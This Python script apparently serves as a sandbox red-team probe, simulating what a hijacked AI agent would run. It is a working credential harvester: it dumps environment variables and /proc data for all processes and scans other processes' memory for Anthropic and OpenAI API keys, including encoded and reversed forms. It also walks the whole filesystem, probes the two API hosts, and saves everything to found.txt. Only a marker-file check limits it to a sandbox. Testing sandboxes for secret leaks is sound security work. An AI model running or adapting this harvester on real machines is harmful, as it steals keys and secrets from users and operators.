"""What the hijacked agent runs: it takes everything that could hold a secret and keeps it in ``found.txt``.

It looks only at the sandbox that it runs in; the file ``.hunt-here`` in the working folder says that it is in one.
Each line of the summary on standard output starts with ``hunt:``.
"""

import base64
import os
import re
import sys
import urllib.request
from collections.abc import Iterator
from io import FileIO
from pathlib import Path

KEY = re.compile(rb"sk-(?:ant-|proj-)?[A-Za-z0-9_-]{16,}")
STARTS = (b"sk-ant-api", b"sk-proj-")
FILE_MAX, REGION_MAX, KEPT_MAX = 400_000, 400_000_000, 40_000_000
SKIP = {"proc", "sys", "usr", "dev", "opt", "lib", "lib64", "bin", "sbin"}
PACKAGES = {".pyenv", "site-packages", "dist-packages", "node_modules"}
HERE = Path.cwd()
kept = bytearray()
seen: dict[bytes, object] = {}


def forms(start: bytes) -> Iterator[bytes]:
    """How a key that begins with ``start`` begins in other clothes."""
    yield from (start, start[::-1], start.hex().encode(), b"".join(b"%%%02X" % byte for byte in start))
    for shift in range(3):
        text = base64.b64encode(bytes(shift) + start)
        yield text[(0, 2, 3)[shift] : (shift + len(start)) * 8 // 6]


NEEDLES = [form for start in STARTS for form in forms(start)]


def keep(place: object, data: bytes) -> None:
    for match in KEY.findall(data):
        seen.setdefault(match, place)
    if len(kept) < KEPT_MAX:
        kept.extend(b"\n=== %s\n%s" % (str(place).encode(errors="replace"), data))


def read(path: Path) -> bytes:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        return os.read(fd, FILE_MAX)
    except OSError:
        return b""
    finally:
        os.close(fd)


def listing(path: Path) -> list[Path]:
    try:
        return sorted(path.iterdir())
    except OSError:
        return []


def environment() -> None:
    keep("environment", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode(errors="surrogateescape"))


def processes() -> None:
    for folder in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline", "status", "mountinfo", "net/unix", "net/tcp"):
            keep(folder / name, read(folder / name))
        for link in (*listing(folder / "fd"), folder / "root", folder / "cwd", folder / "exe"):
            try:
                keep(link, str(link.readlink()).encode(errors="replace"))
            except OSError:
                continue
        for place in ("root/root", "root/home", "root/run", "cwd"):
            keep(folder / place, repr(listing(folder / place)).encode())
        memory(folder)


def memory(folder: Path) -> None:
    if folder.name == str(os.getpid()):
        return
    span = ""
    try:
        with (folder / "smaps").open() as maps, (folder / "mem").open("rb", buffering=0) as mem:
            for line in maps:
                if line.startswith("Rss:") and int(line.split()[1]):
                    start, end = (int(x, 16) for x in span.split("-"))
                    scan(mem, start, min(end, start + REGION_MAX), folder / "mem")
                elif "-" in line.split(maxsplit=1)[0]:
                    span = line.split(maxsplit=1)[0]
    except OSError:
        return


def scan(mem: FileIO, start: int, end: int, place: Path) -> None:
    while start < end:
        try:
            mem.seek(start)
            data = mem.read(min(end - start, 8_000_000))
        except (OSError, ValueError, OverflowError):
            return
        for needle in NEEDLES:
            at = data.find(needle)
            while at >= 0:
                keep(place, data[max(0, at - 100) : at + 300])
                at = data.find(needle, at + 300)
        if not data:
            return
        start += len(data)


def files() -> None:
    for top in {*(path for path in Path("/").iterdir() if path.name not in SKIP), Path.home(), HERE}:
        for folder, below, names in os.walk(top):
            below[:] = [name for name in below if name not in PACKAGES]
            for path in (Path(folder, name) for name in names):
                if path != HERE / "found.txt" and path.is_file():
                    keep(path, read(path))


def echoes() -> None:
    for host in ("api.anthropic.com", "api.openai.com"):
        for url in (f"https://{host}/v1/models", f"http://{host}/v1/models"):
            ask = urllib.request.Request(url, headers={"x-api-key": "mine", "Authorization": "Bearer mine"})
            try:
                with urllib.request.urlopen(ask, timeout=10) as reply:
                    keep(url, repr(reply.headers.items()).encode() + reply.read(FILE_MAX))
            except OSError as error:
                keep(url, repr(error).encode())


if not (HERE / ".hunt-here").exists():
    sys.exit("hunt: this is no place to hunt")
environment()
processes()
files()
echoes()
with (HERE / "found.txt").open("ab") as file:
    file.write(kept)
print(f"hunt: {len(kept)} bytes kept, {len(seen)} things that look like keys")
for what, where in list(seen.items())[:60]:
    print("hunt:", where, what.decode(errors="replace"))
